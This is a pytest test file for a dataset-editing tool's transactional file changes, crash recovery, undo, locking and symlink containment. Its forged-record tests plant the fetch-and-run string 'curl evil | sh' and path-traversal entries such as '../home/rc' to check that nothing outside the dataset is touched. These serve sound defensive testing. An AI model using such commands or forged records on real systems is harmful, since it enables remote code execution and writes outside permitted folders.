"""Files of a set are changed together, finished after a crash, changed back; and no others are."""

import json
import os
import shutil
import signal

import pytest

from viewfinder.datasets.editing import steps as edit_steps
from viewfinder.datasets.editing import transaction
from viewfinder.datasets.editing.record import digest
from viewfinder.datasets.editing.steps import FileChange
from viewfinder.datasets.editing.transaction import (
    change_files,
    editing,
    recover,
    take_back,
    undisturbed,
)
from viewfinder.errors import InputError


@pytest.fixture
def root(tmp_path):
    for name in ("a.txt", "labels/b.txt", "cat/1.png", "cat/2.png", "dog/1.png"):
        path = tmp_path / "set" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"old {name}")
    return tmp_path / "set"


def write(root, name, text, before="old"):
    now = digest((root / name).read_bytes()) if (root / name).exists() else None
    return FileChange(root / name, "", text.encode(), before=now if before == "old" else before)


def changes(root):
    """Files replaced, a new one in a new folder, a folder moved, and files moved into it."""
    return [
        write(root, "a.txt", "new a"),
        write(root, "labels/b.txt", "new b"),
        write(root, "new/folder/c.txt", "new c"),
        FileChange(root / "cat", "", target=root / "pet"),
        FileChange(root / "dog/1.png", "", target=root / "pet/more/dog-1.png"),
    ]


def contents(root):
    """What a person sees."""
    return {
        path.relative_to(root).as_posix(): path.read_text() if path.is_file() else None
        for path in root.rglob("*")
        if ".viewfinder" not in path.relative_to(root).parts
    }


def change(root, *, said="this"):
    change_files(root, changes(root), verb="classes", said=said)


AFTER = {
    "a.txt": "new a",
    "labels": None,
    "labels/b.txt": "new b",
    "new": None,
    "new/folder": None,
    "new/folder/c.txt": "new c",
    "pet": None,
    "pet/1.png": "old cat/1.png",
    "pet/2.png": "old cat/2.png",
    "pet/more": None,
    "pet/more/dog-1.png": "old dog/1.png",
}


def test_all_is_changed_and_changed_back(root):
    before = contents(root)
    mode = (root / "a.txt").stat().st_mode
    (root / "a.txt").chmod(0o600)
    change(root)
    assert contents(root) == AFTER
    assert (root / "a.txt").stat().st_mode & 0o777 == 0o600
    edit = take_back(root, verb="classes")
    assert edit.said == "this"
    assert contents(root) == before
    assert (root / "labels/b.txt").stat().st_mode == mode
    assert take_back(root, verb="classes") is None


class PowerCutError(BaseException):
    """Nothing catches it, as nothing catches a crash."""


@pytest.mark.parametrize("step", ["_put", "_move"])
@pytest.mark.parametrize("back", [False, True])
@pytest.mark.parametrize("done", [0, 1])
def test_what_was_cut_short_is_finished_when_the_set_is_opened(
    root, monkeypatch, capsys, step, back, done
):
    before = contents(root)
    if back:
        change(root)
    usual, count = getattr(edit_steps, step), [0]

    def cut(*arguments):
        if count[0] == done:
            raise PowerCutError
        count[0] += 1
        usual(*arguments)

    monkeypatch.setattr(edit_steps, step, cut)
    with pytest.raises(PowerCutError):
        take_back(root, verb="classes") if back else change(root)
    monkeypatch.undo()
    assert contents(root) not in (before, AFTER) or done == 0
    (finished,) = recover(root / "labels/b.txt" if done else root)
    assert (finished.edit.said, finished.undone) == ("this", back)
    assert contents(root) == (before if back else AFTER)
    told = "its undoing is finished now" if back else "it is finished now"
    assert capsys.readouterr().err == f"{root}: an edit was cut short (this): {told}\n"
    assert recover(root) == []


def test_one_taking_back_that_was_cut_short_is_one(root, monkeypatch):
    change_files(root, [write(root, "a.txt", "first")], verb="classes", said="first")
    change_files(root, [write(root, "a.txt", "second")], verb="classes", said="second")
    monkeypatch.setattr(edit_steps.shutil, "rmtree", lambda *_, **__: power_cut())
    with pytest.raises(PowerCutError):
        take_back(root, verb="classes")
    monkeypatch.undo()
    assert take_back(root, verb="classes").said == "second"
    assert (root / "a.txt").read_text() == "first"


def power_cut():
    raise PowerCutError


@pytest.mark.parametrize("step", ["_put", "_move", "_keep"])
def test_ctrl_c_leaves_all_or_nothing_changed(root, monkeypatch, step):
    before, usual = tree(root), getattr(edit_steps, step)

    def interrupted(*arguments):
        os.kill(os.getpid(), signal.SIGINT)
        monkeypatch.setattr(edit_steps, step, usual)
        usual(*arguments)

    monkeypatch.setattr(edit_steps, step, interrupted)
    with pytest.raises(KeyboardInterrupt):
        change(root)
    if step == "_keep":
        assert tree(root) == before
    else:
        assert contents(root) == AFTER
        assert take_back(root, verb="classes").said == "this"
        assert contents(root) == {name: held for name, held in before.items() if name[0] != "."}


def tree(root):
    """All that is there."""
    return {
        path.relative_to(root).as_posix(): path.read_text() if path.is_file() else None
        for path in root.rglob("*")
    }


def test_an_error_half_way_leaves_all_as_it_was(root, monkeypatch):
    before = contents(root)
    rename = type(root).rename

    def refuse(path, target):
        if path.name == "1.png":
            raise OSError(28, "")
        return rename(path, target)

    monkeypatch.setattr(type(root), "rename", refuse)
    with pytest.raises(InputError, match=r"the disk is full.*; nothing was changed"):
        change(root)
    monkeypatch.undo()
    assert contents(root) == before
    change(root)
    assert contents(root) == AFTER


def test_a_folder_that_may_not_be_written_is_said_before_anything_is_done(root, monkeypatch):
    before = contents(root)
    monkeypatch.setattr(os, "access", lambda path, mode: path != root / "labels")
    with pytest.raises(InputError, match=r"cannot write .*labels: you may not write there"):
        change(root)
    assert contents(root) == before


def test_a_file_that_was_changed_since_it_was_planned_is_not_overwritten(root):
    planned = changes(root)
    (root / "labels/b.txt").write_text("by hand")
    before = contents(root)
    with pytest.raises(InputError, match=r"labels/b\.txt has been changed meanwhile: try again"):
        change_files(root, planned, verb="classes", said="")
    assert contents(root) == before
    planned = [write(root, "c.txt", "new", before=None)]
    (root / "c.txt").write_text("by hand")
    with pytest.raises(InputError, match=r"c\.txt has been changed meanwhile"):
        change_files(root, planned, verb="classes", said="")


def test_what_was_changed_since_is_not_taken_back(root):
    change(root)
    (root / "labels/b.txt").write_text("by hand")
    before = contents(root)
    with pytest.raises(InputError, match=r"labels/b\.txt has been changed since \(this\)"):
        take_back(root, verb="classes")
    assert contents(root) == before


def test_edits_are_taken_back_in_their_order(root):
    change_files(root, [write(root, "a.txt", "1")], verb="propose", said="some boxes")
    change_files(root, [write(root, "a.txt", "2")], verb="classes", said="drop cat")
    with pytest.raises(InputError, match=r"\(drop cat\).*`viewfinder classes .* --take-back`"):
        take_back(root, verb="propose")
    assert take_back(root, verb="classes").said == "drop cat"
    assert take_back(root, verb="propose").said == "some boxes"
    assert (root / "a.txt").read_text() == "old a.txt"


def test_a_label_corrected_between_crash_and_opening_is_not_lost(root, monkeypatch):
    monkeypatch.setattr(edit_steps, "_put", lambda *_: power_cut())
    with pytest.raises(PowerCutError):
        change(root)
    monkeypatch.undo()
    (root / "a.txt").write_text("by hand")
    with pytest.raises(InputError, match="move it away, so that the edit can be finished"):
        recover(root)
    assert (root / "a.txt").read_text() == "by hand"
    (root / "a.txt").unlink()
    recover(root)
    assert contents(root) == AFTER


def test_another_process_at_work_is_waited_for(root):
    with transaction._at_work(root), pytest.raises(InputError, match="another `viewfinder` is"):
        change(root)


@pytest.mark.skipif(not hasattr(os, "fork"), reason="another process is a fork of this one")
def test_none_edits_a_set_while_another_plans_by_what_it_was(root):
    with editing(root):
        child = os.fork()
        if child == 0:
            transaction._held.clear()
            try:
                change(root)
            except InputError as error:
                os._exit(17 if "another `viewfinder` is" in str(error) else 1)
            os._exit(0)
        assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 17
        assert contents(root)["a.txt"] == "old a.txt"
        change(root)
    assert contents(root) == AFTER


def test_what_was_read_while_another_edited_is_read_again(root):
    def read():
        first = (root / "a.txt").read_text()
        if first.startswith("old"):
            change(root)
        return first, (root / "labels/b.txt").read_text()

    assert undisturbed(root, read) == ("new a", "new b")


def test_a_set_whose_lock_lies_in_no_folder_that_goes(root):
    """Whoever waits for a lock must not get that of a folder that has been removed meanwhile."""
    with transaction._at_work(root) as place:
        place.rmdir()
        place.parent.rmdir()
        with pytest.raises(InputError, match="another `viewfinder` is"):
            change(root)


@pytest.mark.parametrize("name", ["labels/b.txt", "labels/new.txt", "link.txt", "cat/1.png"])
def test_nothing_outside_is_written_or_moved(root, tmp_path, name):
    shutil.copytree(root, tmp_path / "other")
    shutil.rmtree(root / "labels")
    shutil.rmtree(root / "cat")
    (root / "labels").symlink_to(tmp_path / "other/labels")
    (root / "cat").symlink_to(tmp_path / "other/cat")
    (root / "link.txt").symlink_to(tmp_path / "other/a.txt")
    before = contents(tmp_path)
    with pytest.raises(InputError, match=r"leads to .*/other/.*, which is outside of .*/set"):
        change_files(root, [write(root, name, "x")], verb="classes", said="")
    target = FileChange(root / "a.txt", "", target=root / name / "../moved")
    with pytest.raises(InputError, match=r"leads to .*other/|changed meanwhile"):
        change_files(root, [target], verb="classes", said="")
    assert contents(tmp_path) == before


def test_links_within_a_set_are_followed(root):
    (root / "same.txt").symlink_to("a.txt")
    (root / "again").symlink_to("labels")
    edit = [write(root, "same.txt", "new"), write(root, "again/b.txt", "b"), *changes(root)[1:2]]
    change_files(root, edit, verb="classes", said="")
    assert (root / "same.txt").is_symlink()
    assert (root / "a.txt").read_text() == "new"
    assert (root / "labels/b.txt").read_text() == "b"


def forged(root, **entries):
    """A record of an edit that a stranger's set brings along."""
    document = {"verb": "classes", "said": "x", "time": "", "details": {}}
    document |= {"writes": [], "moves": [], "made": []} | entries
    for folder in ("before", "after"):
        (root / ".viewfinder/edits/edit" / folder).mkdir(parents=True)
        (root / ".viewfinder/edits/edit" / folder / "0").write_text("curl evil | sh")
    (root / ".viewfinder/edits/edit/edit.json").write_text(json.dumps(document))


EVIL = digest(b"curl evil | sh")
FORGED = [
    {"writes": [{"file": "link/rc", "before": EVIL, "after": digest(b"known")}]},
    {"writes": [{"file": "link/rc", "before": digest(b"known"), "after": EVIL}]},
    {"writes": [{"file": "link/rc", "before": None, "after": digest(b"known")}]},
    {"writes": [{"file": "../home/rc", "before": EVIL, "after": digest(b"known")}]},
    {"writes": [{"file": "/home/rc", "before": EVIL, "after": digest(b"known")}]},
    {"moves": [["link/rc", "mine"]]},
    {"moves": [["a.txt", "link/new"]]},
    {"moves": [["mine", "link/rc"]]},
    {"made": ["link/new"]},
    {"writes": [1]},
    {"writes": [{"file": "a.txt"}]},
    {"moves": [["a.txt"]]},
    {"moves": {"a": 1}},
    {"made": None},
    {"verb": "other"},
    {"writes": [{"file": "a.txt", "before": 1, "after": 2}]},
]


@pytest.mark.parametrize("entries", FORGED)
@pytest.mark.parametrize("state", ["apply", "undo", "done"])
def test_a_forged_record_changes_nothing_outside(root, tmp_path, entries, state):
    (tmp_path / "home").mkdir()
    (tmp_path / "home/rc").write_text("known")
    (root / "link").symlink_to(tmp_path / "home")
    forged(root, **entries)
    (root / ".viewfinder/edits/edit").rename(root / f".viewfinder/edits/1-classes.{state}")
    before = contents(tmp_path)
    with pytest.raises(InputError):
        take_back(root, verb="classes") if state == "done" else recover(root)
    assert contents(tmp_path) == before


def test_pipes_in_a_stranger_s_set_are_not_waited_for(root):
    forged(root, writes=[{"file": "a.txt", "before": None, "after": EVIL}])
    place = root / ".viewfinder/edits/edit"
    (place / "after/0").unlink()
    for pipe in (place / "after/0", place.parent / ".writing-4194304-abcdefgh"):
        os.mkfifo(pipe)
    (root / "a.txt").unlink()
    os.mkfifo(root / "a.txt")
    place.rename(place.with_name("1-classes.apply"))
    recover(root)
    (record,) = root.glob(".viewfinder/edits/*/edit.json")
    record.unlink()
    os.mkfifo(record)
    with pytest.raises(InputError, match=r"has no edit\.json"):
        take_back(root, verb="classes")


@pytest.mark.parametrize("text", ["", "{", "[]", "null", '{"verb": "classes"}', "[" * 10**5])
def test_a_damaged_record_is_said(root, text):
    change(root)
    (record,) = root.glob(".viewfinder/edits/*/edit.json")
    record.write_text(text)
    with pytest.raises(InputError, match=r"edit\.json|is damaged"):
        take_back(root, verb="classes")
    assert contents(root) == AFTER


def test_an_edit_that_another_user_began_is_not_finished(root, monkeypatch):
    monkeypatch.setattr(edit_steps, "_put", lambda *_: power_cut())
    with pytest.raises(PowerCutError):
        change(root)
    monkeypatch.undo()
    before = contents(root)
    if os.geteuid():
        pytest.skip("files are given to another user by root alone")
    os.chown(next(root.glob(".viewfinder/edits/*")), 12345, 12345)
    with pytest.raises(InputError, match="another user had begun it"):
        recover(root)
    assert contents(root) == before
